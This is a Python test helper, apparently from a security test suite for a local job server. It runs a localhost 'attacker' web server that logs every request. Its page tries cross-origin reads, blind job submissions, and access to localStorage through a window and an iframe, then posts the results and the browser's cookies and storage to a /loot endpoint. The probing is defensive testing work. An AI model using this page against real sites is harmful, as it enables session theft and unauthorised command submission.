"""A web server of another user on this host: it records all that a browser sends it, and its page tries to reach ours.

Usage: other_server.py RECORD TARGET; prints its port.
"""

from __future__ import annotations

import json
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

PAGE = """<!DOCTYPE html><title>other</title><script>
const target = "%s", tries = [];
const attempt = (name, doing) => tries.push(doing().then((got) => name + ": " + got, (error) => name + ": " + error));
const read = async (path, options) => (await fetch(target + path, options)).text();
const json = JSON.stringify({command: ["true"]});
for (const credentials of ["include", "same-origin"]) {
  attempt("read", () => read("/v1/status", {credentials}));
  attempt("submit", () => read("/v1/jobs", {method: "POST", credentials, body: json}));
  attempt("submit, JSON", () => read("/v1/jobs",
    {method: "POST", credentials, body: json, headers: {"Content-Type": "application/json"}}));
  attempt("blind", () => read("/v1/jobs", {method: "POST", credentials, body: json, mode: "no-cors"}));
  attempt("code", () => read("/v1/session/code", {method: "POST", credentials, mode: "no-cors"}));
}
attempt("window", async () => {
  const other = window.open(target + "/");
  await new Promise((resolve) => setTimeout(resolve, 300));
  return JSON.stringify(other.localStorage) + other.location.href;
});
attempt("frame", () => new Promise((resolve, reject) => {
  const frame = document.createElement("iframe");
  frame.onload = () => { try { resolve(frame.contentWindow.localStorage.length); } catch (error) { reject(error); } };
  frame.src = target + "/";
  document.documentElement.append(frame);
}));
Promise.all(tries).then((got) => fetch("/loot", {method: "POST", body: JSON.stringify(
  {got, cookie: document.cookie, local: {...localStorage}, session: {...sessionStorage}})}))
  .then(() => { document.title = "done"; });
</script>"""


def main() -> None:
    record, target = Path(sys.argv[1]), sys.argv[2]

    class Handler(BaseHTTPRequestHandler):
        """Keeps each request as a line of JSON."""

        def _keep(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
            kept = {"method": self.command, "path": self.path, "headers": self.headers.items(), "body": body}
            with record.open("a") as file:
                file.write(json.dumps(kept) + "\n")
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write((PAGE % target).encode() if self.path == "/" else b"")

        do_GET = do_POST = do_OPTIONS = _keep  # noqa: N815

        def log_message(self, *_: object) -> None:
            """Says nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    print(server.server_address[1], flush=True)
    server.serve_forever()


if __name__ == "__main__":
    main()
